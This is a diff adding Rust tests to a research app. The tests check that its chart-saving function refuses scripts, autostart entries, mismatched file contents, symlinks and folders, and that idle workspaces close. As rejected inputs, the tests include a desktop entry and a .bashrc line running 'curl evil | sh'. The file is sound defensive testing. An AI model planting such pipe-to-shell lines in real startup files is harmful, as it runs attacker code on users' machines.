@@ -81,3 +81,63 @@ fn a_chart_file_is_written_whole_and_never_over_another() {
     assert_eq!(research::save_chart("fees.png", b"x").unwrap_err().code, ErrorCode::Invalid, "a relative path");
     assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "no temporary file left behind");
 }
+
+/// The attacker is a page gone wrong that calls `research_save_chart` itself: it may write a new
+/// chart, but not a script, a desktop autostart entry or a file whose bytes are not the chart
+/// its name says; nothing is written then.
+#[test]
+fn only_a_chart_can_be_saved_as_a_chart() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
+    for (name, bytes) in [
+        ("evil.desktop", &b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"[..]),
+        (".bashrc", b"curl evil | sh\n"),
+        ("run.sh", b"<svg/>"),
+        ("noextension", b"<svg/>"),
+        ("chart.svg", b"#!/bin/sh\n<svg/>"),
+        ("chart.png", b"<svg/>"),
+        ("chart.svg", b"\x89PNG\r\n\x1a\n"),
+    ] {
+        let e = research::save_chart(&p(name), bytes).unwrap_err();
+        assert_eq!(e.code, ErrorCode::Invalid, "{name}: {e}");
+        assert!(e.to_string().contains("not a chart"), "{e}");
+    }
+    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0, "nothing written");
+    research::save_chart(&p("a.SVG"), b"<?xml version=\"1.0\"?>\n<svg/>").unwrap();
+    research::save_chart(&p("a.png"), b"\x89PNG\r\n\x1a\n rest").unwrap();
+    // A symbolic link at the name (even one pointing nowhere) is never followed nor replaced.
+    std::os::unix::fs::symlink(dir.path().join("target.svg"), dir.path().join("link.svg")).unwrap();
+    assert!(research::save_chart(&p("link.svg"), b"<svg/>").is_err());
+    assert!(!dir.path().join("target.svg").exists(), "the link's target was not created");
+    // A folder at the name, or a path that ends in one.
+    std::fs::create_dir(dir.path().join("d.svg")).unwrap();
+    assert!(research::save_chart(&p("d.svg"), b"<svg/>").is_err());
+    assert!(research::save_chart(&format!("{}/..", p("d.svg")), b"<svg/>").is_err());
+    let mut names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
+    names.sort();
+    assert_eq!(names, ["a.SVG", "a.png", "d.svg", "link.svg"], "nothing else written, no temporary file left");
+}
+
+/// The researcher walks away from an open workspace: after the idle time it is closed in the
+/// core (its identity and data dropped, its lock released), not only cleared from the page; any
+/// call postpones that.
+#[test]
+fn the_idle_lock_closes_the_workspace_in_the_core() {
+    let dir = tempfile::tempdir().unwrap();
+    let (identity, profile) = researcher_files(dir.path());
+    let mut r = Research::new(&dir.path().join("data"), Some(MIN_WORK_FACTOR));
+    let pass = || secret("a long research passphrase".into());
+    r.create(None, &identity, &profile, &pass(), &pass()).unwrap();
+    assert!(!r.close_if_idle(std::time::Duration::from_secs(60)), "used just now");
+    assert!(r.status().open.is_some());
+    std::thread::sleep(std::time::Duration::from_millis(30));
+    r.charts().unwrap();
+    assert!(!r.close_if_idle(std::time::Duration::from_millis(20)), "a call counts as activity");
+    std::thread::sleep(std::time::Duration::from_millis(30));
+    assert!(r.close_if_idle(std::time::Duration::from_millis(20)), "idle: closed");
+    assert_eq!(r.status().open, None);
+    assert_eq!(r.charts().unwrap_err().code, ErrorCode::NoVault, "nothing of it is left to read");
+    assert!(!r.close_if_idle(std::time::Duration::ZERO), "nothing open: nothing to tell the page");
+    // Its lock is released: it opens again (here or in another process).
+    r.open(None, &pass()).unwrap();
+}
